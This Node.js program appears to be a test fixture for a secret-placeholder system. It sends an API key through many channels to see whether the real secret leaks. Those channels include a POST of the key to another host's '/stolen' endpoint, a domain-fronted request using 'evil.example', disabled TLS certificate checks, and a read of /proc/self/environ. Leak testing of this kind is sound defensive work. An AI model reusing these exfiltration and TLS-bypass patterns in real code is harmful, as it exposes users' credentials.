// A program that has a placeholder instead of a secret, sends it in every way, and reports what it got and has.
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { request } from "node:https";
import net from "node:net";

const channel = new net.Socket({ fd: 3, readable: true, writable: true });
const say = (value) => channel.write(`${JSON.stringify(value)}\n`);
const { ours, theirs } = JSON.parse(process.argv[2]);
const key = process.env.API_KEY;

const call = async (url, init) => {
  const response = await fetch(url, init);
  return [response.status, await response.text()];
};

const tried = async (work) => {
  try {
    return await work();
  } catch (error) {
    return [error.cause?.message ?? error.message];
  }
};

const headers = {
  authorization: `Bearer ${key}`,
  "x-api-key": key,
  origin: key,
  "x-request-id": key,
  "idempotency-key": key,
};
const answers = [
  await tried(() => call(`${ours}/plain?key=${key}`, { headers })),
  await tried(() => call(`${ours}/sent`, { method: "POST", body: `key=${key}`, headers })),
  await tried(() => call(`${ours}/basic`, { headers: { authorization: `Basic ${btoa(`user:${key}`)}` } })),
];

/** Uses another host's name, because another service at the same address must not get the secret. */
const fronted = await tried(async () => {
  const { hostname: servername } = new URL(ours);
  const headers = { host: "evil.example", authorization: key };
  const asked = request(`${ours}/fronted`, { servername, headers, checkServerIdentity: () => undefined }).end();
  const [response] = await once(asked, "response");
  response.resume();
  return [response.statusCode];
});

const socket = await tried(async () => {
  const asked = request(`${ours}/socket`, {
    headers: { connection: "Upgrade", upgrade: "websocket", "sec-websocket-key": key, authorization: key },
  }).end();
  const [response, stream] = await once(asked, "upgrade");
  stream.write("ping");
  const [data] = await once(stream, "data");
  stream.destroy();
  return [response.statusCode, String(data)];
});

// This program trusts any certificate.
process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";
const stolen = await tried(() => call(`${theirs}/stolen?key=${key}`, { method: "POST", body: key, headers }));

say({ key, answers, fronted, socket, stolen, memory: readFileSync("/proc/self/environ", "latin1") });
